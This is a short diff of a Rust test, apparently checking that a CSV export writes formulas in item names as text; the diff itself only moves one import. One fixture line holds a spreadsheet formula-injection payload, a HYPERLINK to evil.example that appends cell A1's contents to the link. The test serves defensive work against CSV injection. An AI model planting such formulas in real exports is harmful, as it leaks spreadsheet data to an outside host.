@@ -554,8 +554,8 @@ fn the_csv_has_one_row_per_line() {
 
 #[test]
 fn a_formula_in_a_name_is_written_to_the_csv_as_text_and_amounts_stay_numbers() {
+    use servicefolio::catalog::ItemRecord;
     use servicefolio::catalog::{item_record, save_item, EditHistory, ItemDraft};
-    use servicefolio::portfolio::ItemRecord;
     let mut f = fixture();
     // Names a spreadsheet would run as formulas: a product and an employee.
     let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Notebook\")";
